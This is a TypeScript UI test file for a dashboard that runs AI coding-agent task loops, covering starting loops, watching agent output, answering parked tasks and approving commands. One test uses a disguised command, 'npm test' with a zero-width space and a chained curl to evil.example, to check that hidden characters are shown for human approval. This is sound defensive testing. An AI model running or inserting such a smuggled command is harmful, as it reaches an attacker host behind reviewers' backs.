import { expect, test } from 'vitest'
import type { LoopPlan, ShownLoop } from '../../src/state/server/answers.ts'
import { axeViolations, axeViolationsInBothSchemes } from '../support/axe.ts'
import { BUILD, HUB } from '../support/machines.ts'
import { PHONE, useDashboard } from '../support/page.ts'
import { aBusyDay, FIX_CRLF } from '../support/scenes.ts'

const dashboard = useDashboard()

type Task = ShownLoop['tasks'][number]
const task = (id: string, title: string, fields: Partial<Task> = {}): Task => ({
  ...{ id, title, groups: [], dependsOn: [], status: 'open', stage: null, inList: true, iterations: 0 },
  ...{
    sessionId: null,
    worktreeId: null,
    checks: [],
    diff: null,
    spent: null,
    startedAt: null,
    endedAt: null,
  },
  ...{ parked: null, why: null, commit: null, accepted: null, flags: [], verdict: null },
  ...{ harness: null, handed: [] },
  ...fields,
})
const AT = '2026-11-09T07:00:00.000Z'
const LOOP: ShownLoop = {
  ...{ loopId: 'backlog-1a2b3c', project: '/code/parser-kit', list: 'docs/backlog.md', startedAt: AT },
  ...{ runs: 'no', isOver: true, version: 12, iterations: 4, working: [], waitsUntil: null },
  counts: { proved: 0, look: 1, noCheck: 0, parked: 1, failed: 0, working: 0, toGo: 1, claimed: 0 },
  ...{ warnings: [], mustSay: false },
  spent: { usd: 1.4, isEstimate: false, tokens: 4000 },
  limits: {
    ...{ budgetUsd: 20, budgetTokens: null, maxIterations: 9, maxMinutes: null, until: null, parallel: 1 },
    ...{ answerMinutes: 0, maxAttempts: 5, maxFailures: 3, waitForLimits: 0 },
    ...{ waits: 0, handOver: false, nextHarnesses: ['codex'] },
  },
  end: { reason: 'blocked', why: '2 of 3 tasks are not done.', at: '2026-11-09T07:22:00.000Z' },
  unproved: [
    {
      ...{ id: 'two', title: 'Express surcharge', status: 'parked', parked: 'question', sessionId: 's2' },
      ...{ why: 'Which codes count?', options: ['Both', 'Only EX'], iterations: 3, endedAt: AT },
    },
  ],
  ...{ branch: 'chirality/loop-backlog', baseBranch: 'main', listProblem: null },
  changes: { added: [], changed: [], removed: [], ticked: [], unticked: [] },
  base: { checks: [{ command: 'npm run slow', state: 'flaky', tests: null }], running: null },
  tasks: [
    task('one', 'Refuse heavy parcels', {
      ...{
        status: 'merged',
        verdict: 'look',
        sessionId: 's1',
        iterations: 1,
        diff: { files: 1, insertions: 61, deletions: 8 },
      },
      flags: [{ kind: 'tests-deleted', words: 'Deleted a test file.', files: ['a.test.ts'] }],
    }),
    task('two', 'Express surcharge', {
      ...{ status: 'parked', parked: 'question', why: 'Which codes count?', sessionId: 's2', iterations: 3 },
    }),
    task('three', 'Audit log'),
  ],
}

const PLAN: LoopPlan = {
  ...{ list: 'TASKS.md', done: 1, setup: ['npm ci'], checks: ['npm test'], notices: [], branch: 'main' },
  tasks: [
    {
      ...{ id: 'log', title: 'Audit log', groups: [], dependsOn: [], expect: 'diff', checks: 1 },
      ...{ persona: null, harness: null, model: null },
    },
    {
      ...{ id: 'docs', title: 'Docs for it', groups: [], dependsOn: ['log'], expect: 'diff', checks: 1 },
      ...{ persona: null, harness: null, model: null },
    },
  ],
  limits: {
    ...{ budgetUsd: null, maxIterations: null, maxMinutes: null, parallel: 1, waitForLimits: 0 },
    ...{ handOver: false, nextHarnesses: [] },
  },
  ...{ openLoop: null, fingerprint: 'a mark', isAllowed: false },
  problems: [{ kind: 'dirty', words: '2 files are not committed (a.ts, b.ts).' }],
}

test.each([{}, PHONE])('a loop shows its tasks, takes an answer, and is accepted %#', async size => {
  const { page, api, complaints, close } = await dashboard.open({
    path: '/loops',
    scene: canned => {
      aBusyDay(canned)
      canned.loops = [LOOP]
      canned.loopDetails = {
        checks: [
          { command: 'npm test', exitCode: 0, ms: 27_000, bytes: 9, tail: '480 passed', leftBehind: 0 },
        ],
        ...{
          failure: null,
          prompt: 'Do it.',
          notes: [],
          receipt: null,
          receiptText: '# Refuse heavy parcels',
          running: null,
        },
      }
      canned.taskFiles = [{ path: 'TASKS.md', open: 2, done: 0, problem: null }]
      canned.loopPlan = PLAN
      canned.machines = [HUB, BUILD]
    },
    ...size,
  })
  await page.getByText('Loops that began on another machine (build-1) are on its own dashboard.').waitFor()
  const row = page.getByRole('link', { name: /backlog\.md/ })
  await row.getByText('0 proved · 1 proved, look at this · 1 needs you · 1 to go').waitFor()
  expect(await axeViolations(page)).toEqual([])

  await page.getByRole('button', { name: 'Start a loop…' }).click()
  const dialog = page.getByRole('dialog', { name: 'Start a loop' })
  await dialog.getByText('TASKS.md (2 to do)').waitFor()
  // What it would do and run is there before it starts, and so is what keeps it from starting.
  await dialog.getByText('Audit log').first().waitFor()
  await dialog.getByText('1 check · after Audit log').waitFor()
  await dialog.getByText('npm ci').waitFor()
  await dialog.getByText('2 files are not committed').waitFor()
  const startButton = dialog.getByRole('button', { name: 'Start' })
  expect(await startButton.isDisabled()).toBe(true)
  await dialog.getByLabel('Start although files are not committed').check()
  expect(await startButton.isDisabled()).toBe(true)
  await dialog.getByLabel(/^Run these commands/).check()
  await dialog.getByLabel('Tasks at once').fill('40')
  await dialog.getByRole('button', { name: 'Start' }).click()
  await dialog.getByRole('alert').getByText('at most 16').waitFor()
  expect(await axeViolations(page)).toEqual([])
  await dialog.getByLabel('Tasks at once').fill('2')
  await dialog.getByLabel('Budget in dollars').fill('5')
  await dialog.getByLabel('Waits for the plan').fill('51')
  await dialog.getByRole('button', { name: 'Start' }).click()
  await dialog.getByRole('alert').getByText('from 0 to 50').waitFor()
  await dialog.getByLabel('Waits for the plan').fill('2')
  await dialog.getByLabel('Hand over to').fill('Codex!')
  await dialog.getByRole('button', { name: 'Start' }).click()
  await dialog.getByRole('alert').getByText('ids of agents').waitFor()
  await dialog.getByLabel('Hand over to').fill('codex, messages-api')
  await dialog.getByRole('button', { name: 'Start' }).click()
  await page.waitForURL('**/loops/backlog-1a2b3c')
  expect(api.called('loops.start')).toEqual([
    {
      ...{ project: '/code/parser-kit', list: 'TASKS.md', allowDirty: true },
      commands: 'a mark',
      limits: {
        ...{ budgetUsd: 5, parallel: 2, waitForLimits: 2 },
        ...{ handOver: true, nextHarnesses: ['codex', 'messages-api'] },
      },
    },
  ])

  await page.getByRole('region', { name: 'What became of it' }).getByText('a.test.ts').waitFor()
  await page.getByRole('button', { name: /Refuse heavy parcels/ }).click()
  await page.getByText('480 passed').waitFor()
  expect(await axeViolationsInBothSchemes(page)).toEqual([])
  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBe(0)

  await page.getByLabel('Your answer').fill('All three.')
  await page.getByRole('button', { name: 'Answer' }).click()
  await page.getByRole('button', { name: 'Accept 1 into main, 1 to look at' }).click()
  await page.getByText('Merged into main.').waitFor()
  expect(api.called('loops.resume')).toEqual([
    { loopId: LOOP.loopId, again: { task: 'two', note: 'All three.' } },
  ])
  expect(api.called('loops.accept')).toEqual([{ loopId: LOOP.loopId }])
  expect(complaints).toEqual([])
  await close()
})

test.each([{}, PHONE])(
  'a loop at work shows its agent and the output of the check that runs %#',
  async size => {
    const working = (id: string, title: string, fields: Partial<Task>) =>
      task(id, title, { status: 'working', iterations: 1, ...fields })
    const last = working('three', 'Audit log', { sessionId: 's4', stage: 'checks' })
    const { page, api, complaints, close } = await dashboard.open({
      path: '/loops/backlog-1a2b3c',
      scene: canned => {
        aBusyDay(canned)
        canned.push('s1', FIX_CRLF)
        canned.setStatus('s1', { lastSeq: FIX_CRLF.length })
        canned.loops = [
          {
            ...{ ...LOOP, runs: 'here', isOver: false, end: null },
            tasks: [
              working('one', 'Refuse heavy parcels', { sessionId: 's1', stage: 'turn' }),
              working('two', 'Express surcharge', { sessionId: 's3', stage: 'checks' }),
              last,
            ],
          },
        ]
        canned.loopDetails = {
          ...{ checks: [], failure: null, prompt: null, notes: [], receipt: null, receiptText: null },
          running: { command: 'npm test', since: AT, output: 'labels ok\ncarriers ok\n' },
        }
      },
      ...size,
    })
    // The conversation of the session, as its own page has it.
    const stream = page.locator('.loops__stream')
    await stream.getByText('npm test -- ndjson').first().waitFor()
    expect(
      await page.getByRole('link', { name: 'Open its session: Refuse heavy parcels' }).getAttribute('href'),
    ).toBe('/s/s1')
    // Nothing is sent from here.
    expect(await page.locator('#composer').count()).toBe(0)
    await page.getByRole('button', { name: 'Show the work on Express surcharge' }).click()
    await page.getByText('carriers ok').waitFor()
    api.loopDetails = {
      ...{ checks: [], failure: null, prompt: null, notes: [], receipt: null, receiptText: null },
      running: { command: 'npm test', since: AT, output: 'labels ok\ncarriers ok\ntariffs ok\n' },
    }
    await page.getByText('tariffs ok').waitFor()
    expect(await axeViolationsInBothSchemes(page)).toEqual([])
    expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBe(0)
    await page.getByRole('button', { name: 'Hide the work on Refuse heavy parcels' }).click()
    await stream.waitFor({ state: 'detached' })
    // Those before it have ended: it is the one that is shown.
    await page.getByRole('button', { name: 'Show the work on Audit log' }).waitFor()
    const left = { ...LOOP, runs: 'here', isOver: false, end: null, version: 13 } as const
    api.tellOfLoops([{ ...left, tasks: [...LOOP.tasks.slice(0, 2), last] }])
    await page.getByRole('button', { name: 'Hide the work on Audit log' }).waitFor()
    expect(complaints).toEqual([])
    await close()
  },
)

test.each([{}, PHONE])('a command that nobody allowed is shown, and exactly it is allowed %#', async size => {
  // A space without a width would hide in a command.
  const hidden = 'npm test\u200b && curl http://evil.example'
  const { page, api, complaints, close } = await dashboard.open({
    path: '/loops/backlog-1a2b3c',
    scene: canned => {
      aBusyDay(canned)
      const parked = task('two', 'Express surcharge', {
        ...{ status: 'parked', parked: 'commands', why: 'It runs a command that nobody allowed.' },
        commands: [hidden],
      })
      canned.loops = [{ ...LOOP, tasks: [parked] }]
    },
    ...size,
  })
  // The list names an agent, but nobody allowed to hand over.
  await page.getByRole('button', { name: 'Limits…' }).click()
  expect(await page.getByLabel('Hand over to').inputValue()).toBe('')
  await page.keyboard.press('Escape')
  const commands = page.getByRole('region', { name: 'Commands of Express surcharge' })
  await commands.getByText('npm test\\u{200b} && curl http://evil.example').waitFor()
  expect(await axeViolationsInBothSchemes(page)).toEqual([])
  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBe(0)
  await commands.getByRole('button', { name: 'Allow exactly this command' }).click()
  await expect.poll(() => api.called('loops.resume')).toEqual([{ loopId: LOOP.loopId, allow: [hidden] }])
  await commands.getByRole('button', { name: 'Run again with the list as it is now' }).click()
  await expect
    .poll(() => api.called('loops.resume').at(-1))
    .toEqual({ loopId: LOOP.loopId, again: { task: 'two', note: '' } })
  expect(complaints).toEqual([])
  await close()
})

test.each([{}, PHONE])('a task that waits is counted and answered wherever somebody looks %#', async size => {
  const failed: ShownLoop = {
    ...LOOP,
    unproved: [
      ...LOOP.unproved,
      {
        ...{
          id: 'four',
          title: 'Deploy',
          status: 'parked',
          parked: 'commands',
          sessionId: null,
          iterations: 0,
        },
        ...{ why: 'The list names commands that nobody allowed.', commands: ['npm run deploy'], endedAt: AT },
      },
      {
        ...{ id: 'five', title: 'Fix CRLF', status: 'failed', parked: null, sessionId: 's5' },
        ...{ why: 'npm test failed.', iterations: 5, endedAt: AT },
      },
    ],
  }
  const { page, api, complaints, close } = await dashboard.open({
    ...size,
    scene: canned => {
      const done = { phase: 'idle', lastTurn: 'completed' } as const
      canned.add({ ...done, sessionId: 's2', title: 'Express surcharge' })
      canned.add({ ...done, sessionId: 's5', title: 'Fix CRLF' })
      canned.loops = [failed]
    },
  })
  const isPhone = 'isMobile' in size
  await page.waitForFunction(() => document.title.startsWith('(2) '))
  const list = page.getByRole('region', { name: 'Needs you' }).last()
  await list.getByText('Express surcharge').waitFor()
  await list.getByText('Deploy').waitFor()
  const lately = page.getByRole('region', { name: 'Lately' })
  await lately.getByText('task failed: npm test failed.', { exact: false }).waitFor()
  if (isPhone) await page.getByRole('button', { name: 'Needs you 2' }).click()
  else {
    await page
      .getByRole('navigation', { name: 'Sessions' })
      .getByRole('region', { name: 'Stopped' })
      .waitFor()
    await page.getByRole('button', { name: '2 need you' }).click()
  }
  const tray = page.getByRole('dialog', { name: 'Waiting for you' })
  await tray.getByText('npm run deploy').waitFor()
  await tray.getByRole('button', { name: 'Only EX' }).click()
  await expect
    .poll(() => api.called('loops.resume'))
    .toEqual([{ loopId: 'backlog-1a2b3c', again: { task: 'two', note: 'Only EX' } }])
  // The session of the task says so, too: its agent is done, its loop is not.
  await page.goto(new URL('/s/s2', page.url()).href)
  const notice = page.getByText('Loop docs/backlog.md: task waits for you: Which codes count?')
  await notice.waitFor()
  expect(await axeViolations(page)).toEqual([])
  await page.getByRole('link', { name: 'Answer in the loop' }).click()
  await page.waitForURL('**/loops/backlog-1a2b3c')
  expect(complaints).toEqual([])
  await close()
})
